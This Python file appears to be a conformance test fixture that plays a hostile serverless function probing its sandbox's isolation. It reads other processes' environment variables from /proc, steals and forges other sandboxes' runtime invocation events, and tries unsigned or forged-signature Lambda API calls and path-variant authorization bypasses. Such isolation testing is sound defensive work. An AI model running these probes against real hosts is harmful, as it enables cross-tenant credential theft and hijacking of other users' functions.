"""Conformance fixture: the attacks of a hostile but fair function on the other
sandboxes of its host and on the host itself, each reported, never assumed.
Standard library only; raw_runtime.py's `probe` action runs it in a sandbox.

run(event) returns a JSON-able dict. Every key of the event is optional:

  (always)      "self": {"pid", "uid", "euid", "gid", "egid", "groups",
                "runtime_api"} of this process; "proc": {PID: uid} of every
                process this function sees in /proc (uid null if unreadable);
                "listeners": the loopback TCP listeners in /proc/net/tcp, as
                "127.0.0.1:PORT" (how the attacker found the Invoke API)
  pids          [PID]: for each, {"visible" (/proc/PID exists), "environ"
                (its text, or null), "environ_error", "cmdline" (or null),
                "signal" ("allowed", or the error's name: os.kill(PID, 0),
                signal 0 only, so nothing is harmed)}
  runtime_apis  ["HOST:PORT"]: GET /2018-06-01/runtime/invocation/next on
                each (this function's own is skipped), every address again
                until `hammer_s` seconds have passed (at least once), each
                attempt waiting `attempt_timeout_s` (default 1) for an
                answer; an event received is answered with a forged
                {"forged": true}. Gives {"runtime_apis": {ADDR: {RESULT:
                count}}, "stolen": [{"addr", "request_id", "event",
                "forged_status"}], "unusual": [{"addr", "result", "at",
                "took_s"}] (each attempt neither closed nor refused),
                "slowest": {ADDR: seconds of its slowest attempt},
                "attempts", "began", "ended" (epoch seconds)}. RESULT:
                "event", "closed" (closed or reset without an answer),
                "refused", "timeout" (admitted, or left unaccepted, and kept
                waiting), "status N" (an HTTP answer), or an error's name
  invoke_api    "http://HOST:PORT" of the Lambda API, with "victim" (a
                function name) and "key_id" (an access key id, not secret):
                {"lambda_api": {CALL: {"status", "type" (x-amzn-ErrorType),
                "body"}}} for unsigned Invoke (RequestResponse and Event),
                InvokeWithResponseStream, ListFunctions and
                GetFunctionConfiguration, Invoke signed with the known key
                id but a guessed secret and with an unknown key id, and
                unsigned Invoke by other spellings of its path
                ("invoke_path_N", each with its "path")
  connect       ["HOST:PORT"]: {"connect": {ADDR: "connected" or the errno's
                name}} for a plain TCP connect (2 s timeout)
  paths         [PATH]: {"paths": {PATH: "listed" / "read" or the error's
                name}}: a folder is listed, a file read
"""

import datetime
import errno
import hashlib
import hmac
import http.client
import json
import os
import socket
import time
import urllib.error
import urllib.parse
import urllib.request

NEXT = "/2018-06-01/runtime/invocation/next"


def run(event):
    out = {"self": identity(), "proc": proc_view(), "listeners": listeners()}
    if event.get("pids"):
        out["pids"] = {str(pid): attack_pid(int(pid)) for pid in event["pids"]}
    if event.get("runtime_apis"):
        out.update(hammer(event["runtime_apis"], event.get("hammer_s", 0), event.get("attempt_timeout_s", 1.0)))
    if event.get("invoke_api"):
        out["lambda_api"] = lambda_api(event["invoke_api"], event["victim"], event.get("key_id", "AKIDEXAMPLE"))
    if event.get("connect"):
        out["connect"] = {addr: connect(addr) for addr in event["connect"]}
    if event.get("paths"):
        out["paths"] = {path: read_path(path) for path in event["paths"]}
    return out


def error_name(e):
    if isinstance(e, OSError) and e.errno in errno.errorcode and type(e) is OSError:
        return errno.errorcode[e.errno]
    return type(e).__name__


def identity():
    return {"pid": os.getpid(), "uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(),
            "egid": os.getegid(), "groups": os.getgroups(),
            "runtime_api": os.environ.get("AWS_LAMBDA_RUNTIME_API")}


def proc_view():
    """Every pid listed in /proc, with the real uid its status names."""
    seen = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        uid = None
        try:
            with open(f"/proc/{entry}/status") as f:
                for line in f:
                    if line.startswith("Uid:"):
                        uid = int(line.split()[1])
                        break
        except OSError:
            pass
        seen[entry] = uid
    return seen


def listeners():
    found = []
    try:
        with open("/proc/net/tcp") as f:
            next(f)
            for line in f:
                fields = line.split()
                local, state = fields[1], fields[3]
                ip_hex, port_hex = local.split(":")
                if state == "0A" and ip_hex == "0100007F":
                    found.append(f"127.0.0.1:{int(port_hex, 16)}")
    except OSError as e:
        return error_name(e)
    return sorted(set(found))


def attack_pid(pid):
    result = {"visible": os.path.exists(f"/proc/{pid}"), "environ": None, "environ_error": None}
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            result["environ"] = f.read().decode(errors="replace")[:8000]
    except OSError as e:
        result["environ_error"] = error_name(e)
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            result["cmdline"] = f.read().decode(errors="replace")[:500]
    except OSError:
        result["cmdline"] = None
    try:
        os.kill(pid, 0)
        result["signal"] = "allowed"
    except OSError as e:
        result["signal"] = error_name(e)
    return result


def steal_next(addr, timeout=1.0):
    """One attempt at the event waiting behind `addr`; returns (result, stolen or None)."""
    host, port = addr.rsplit(":", 1)
    conn = http.client.HTTPConnection(host, int(port), timeout=timeout)
    try:
        conn.request("GET", NEXT)
        resp = conn.getresponse()
        body = resp.read()
        if resp.status != 200:
            return f"status {resp.status}", None
        request_id = resp.getheader("Lambda-Runtime-Aws-Request-Id")
        stolen = {"addr": addr, "request_id": request_id, "event": body.decode(errors="replace")[:2000]}
        if request_id:
            stolen["forged_status"] = forge(addr, request_id)
        return "event", stolen
    except ConnectionRefusedError:
        return "refused", None
    except (http.client.RemoteDisconnected, ConnectionResetError, BrokenPipeError):
        return "closed", None
    except (socket.timeout, TimeoutError):
        return "timeout", None
    except (OSError, http.client.HTTPException) as e:
        return error_name(e), None
    finally:
        conn.close()


def forge(addr, request_id):
    host, port = addr.rsplit(":", 1)
    conn = http.client.HTTPConnection(host, int(port), timeout=5)
    try:
        conn.request("POST", f"/2018-06-01/runtime/invocation/{request_id}/response",
                     body=json.dumps({"forged": True}).encode(), headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        resp.read()
        return resp.status
    except (OSError, http.client.HTTPException) as e:
        return error_name(e)
    finally:
        conn.close()


def hammer(addrs, seconds, attempt_timeout):
    own = os.environ.get("AWS_LAMBDA_RUNTIME_API")
    targets = [a for a in addrs if a != own]
    results = {a: {} for a in targets}
    stolen, unusual, attempts, slowest = [], [], 0, {}
    began = time.time()
    deadline = began + seconds
    while True:
        for addr in targets:
            at = time.time()
            result, got = steal_next(addr, attempt_timeout)
            took = time.time() - at
            slowest[addr] = max(slowest.get(addr, 0.0), round(took, 4))
            results[addr][result] = results[addr].get(result, 0) + 1
            if result not in ("closed", "refused"):
                unusual.append({"addr": addr, "result": result, "at": at, "took_s": round(took, 3)})
            attempts += 1
            if got:
                stolen.append(got)
        if time.time() >= deadline:
            break
        time.sleep(0.005)
    return {"runtime_apis": results, "stolen": stolen, "unusual": unusual, "slowest": slowest,
            "attempts": attempts, "began": began, "ended": time.time(), "skipped_own": own in addrs}


def sigv4_headers(method, url, body, key_id, secret, region, service="lambda", now=None):
    """The headers of an AWS Signature Version 4 (the form every SDK sends)
    for a request without a query string."""
    parts = urllib.parse.urlsplit(url)
    now = now or datetime.datetime.now(datetime.timezone.utc)
    amz_date, day = now.strftime("%Y%m%dT%H%M%SZ"), now.strftime("%Y%m%d")
    payload_hash = hashlib.sha256(body).hexdigest()
    headers = {"host": parts.netloc, "x-amz-date": amz_date, "x-amz-content-sha256": payload_hash}
    names = sorted(headers)
    canonical = "\n".join([
        method,
        urllib.parse.quote(parts.path or "/", safe="/-_.~"),
        parts.query,
        "".join(f"{k}:{headers[k]}\n" for k in names),
        ";".join(names),
        payload_hash,
    ])
    scope = f"{day}/{region}/{service}/aws4_request"
    to_sign = "\n".join(["AWS4-HMAC-SHA256", amz_date, scope, hashlib.sha256(canonical.encode()).hexdigest()])
    key = ("AWS4" + secret).encode()
    for part in (day, region, service, "aws4_request"):
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    signature = hmac.new(key, to_sign.encode(), hashlib.sha256).hexdigest()
    headers["authorization"] = (f"AWS4-HMAC-SHA256 Credential={key_id}/{scope}, "
                                f"SignedHeaders={';'.join(names)}, Signature={signature}")
    del headers["host"]  # urllib sends it, as signed
    return headers


def lambda_call(method, url, body=None, headers=None):
    req = urllib.request.Request(url, data=body, method=method, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            status, hdrs, data = resp.status, resp.headers, resp.read()
    except urllib.error.HTTPError as e:
        status, hdrs, data = e.code, e.headers, e.read()
    except (OSError, http.client.HTTPException) as e:
        return {"status": None, "type": None, "body": error_name(e)}
    return {"status": status, "type": hdrs.get("x-amzn-ErrorType"), "body": data.decode(errors="replace")[:2000]}


def lambda_api(endpoint, victim, key_id):
    region = os.environ.get("AWS_REGION", "us-east-1")
    invoke = f"{endpoint}/2015-03-31/functions/{victim}/invocations"
    payload = json.dumps({"action": "echo", "sent_by": "hostile"}).encode()
    json_type = {"Content-Type": "application/json"}
    calls = {
        "invoke_unsigned": ("POST", invoke, payload, json_type),
        "invoke_event_unsigned": ("POST", invoke, payload, dict(json_type, **{"X-Amz-Invocation-Type": "Event"})),
        "stream_unsigned": ("POST", f"{endpoint}/2021-11-15/functions/{victim}/response-streaming-invocations",
                            payload, json_type),
        "list_unsigned": ("GET", f"{endpoint}/2015-03-31/functions", None, {}),
        "configuration_unsigned": ("GET", f"{endpoint}/2015-03-31/functions/{victim}/configuration", None, {}),
        "invoke_guessed_secret": ("POST", invoke, payload, dict(
            json_type, **sigv4_headers("POST", invoke, payload, key_id, "guessed-" + key_id, region))),
        "invoke_unknown_key": ("POST", invoke, payload, dict(
            json_type, **sigv4_headers("POST", invoke, payload, "AKIDHOSTILE", "hostile-secret", region))),
    }
    # The same Invoke by other spellings of its path, none of them signed.
    for i, path in enumerate(INVOKE_PATH_VARIANTS):
        calls[f"invoke_path_{i}"] = ("POST", endpoint + path.format(victim=victim), payload, json_type)
    return {name: dict(lambda_call(*call), path=urllib.parse.urlsplit(call[1]).path)
            for name, call in calls.items()}


INVOKE_PATH_VARIANTS = [
    "//2015-03-31/functions/{victim}/invocations",
    "/2015-03-31//functions/{victim}/invocations",
    "/2015-03-31/functions/{victim}/invocations/",
    "/./2015-03-31/functions/{victim}/invocations",
    "/x/../2015-03-31/functions/{victim}/invocations",
    "/%32015-03-31/functions/{victim}/invocations",
    "/2015-03-31%2Ffunctions%2F{victim}%2Finvocations",
    "/2015-03-31/functions/{victim}%2Finvocations",
    "/2015-03-31/functions/{victim}:$LATEST/invocations",
    "/2015-03-31/functions/arn:aws:lambda:us-east-1:000000000000:function:{victim}/invocations",
    "/2014-11-13/functions/{victim}/invoke-async/",
]


def connect(addr, timeout=2.0):
    host, port = addr.rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=timeout):
            return "connected"
    except (socket.timeout, TimeoutError):
        return "timeout"
    except OSError as e:
        return errno.errorcode.get(e.errno, error_name(e)) if e.errno else error_name(e)


def read_path(path):
    try:
        if os.path.isdir(path):
            os.listdir(path)
            return "listed"
        with open(path, "rb") as f:
            f.read(1)
        return "read"
    except OSError as e:
        return error_name(e)
